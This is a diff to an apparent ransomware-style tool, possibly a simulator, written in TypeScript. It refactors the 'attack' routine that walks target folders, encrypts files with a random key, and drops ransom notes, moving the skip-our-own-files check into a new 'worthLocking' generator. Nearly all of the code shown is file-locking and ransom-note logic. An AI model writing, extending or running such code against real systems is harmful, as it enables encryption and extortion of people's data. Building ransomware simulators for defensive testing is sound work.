@@ -43,13 +43,13 @@ export async function attack(options: AttackOptions): Promise<AttackReport> {
   for (const target of options.targets) checkTarget(target, options.runFolder, token);
   const key = randomBytes(32);
   const report: AttackReport = { startedAt: now(), endedAt: '', files: 0, bytes: 0, notes: 0, skipped: [] };
-  const walks = options.targets.map(walk);
+  const walks = options.targets.map(worthLocking);
   try {
     for (const step of options.order === 'in-turn' ? inTurn(walks) : oneByOne(walks)) {
       options.signal?.throwIfAborted();
       if (step.kind === 'skipped') report.skipped.push(skip(step));
       else if (step.kind === 'folder') report.notes += dropNote(step.path);
-      else if (!isOurs(step.shown)) {
+      else {
         const bytes = lock(step, key);
         if (bytes === undefined) {
           report.skipped.push({ path: step.shown, reason: 'changed or removed meanwhile' });
@@ -73,6 +73,10 @@ const now = () => new Date().toISOString();
 const skip = ({ shown, reason }: Skipped) => ({ path: shown, reason });
 const isOurs = (shown: string) =>
   shown.endsWith(LOCKED) || shown.endsWith(`/${MARKER}`) || shown.endsWith(`/${RANSOM_NOTE}`);
+
+function* worthLocking(folder: string): Generator<Step> {
+  for (const step of walk(folder)) if (step.kind !== 'file' || !isOurs(step.shown)) yield step;
+}
 
 /** `wx`: an existing name, be it a link, is left alone. */
 function dropNote(folder: string): number {
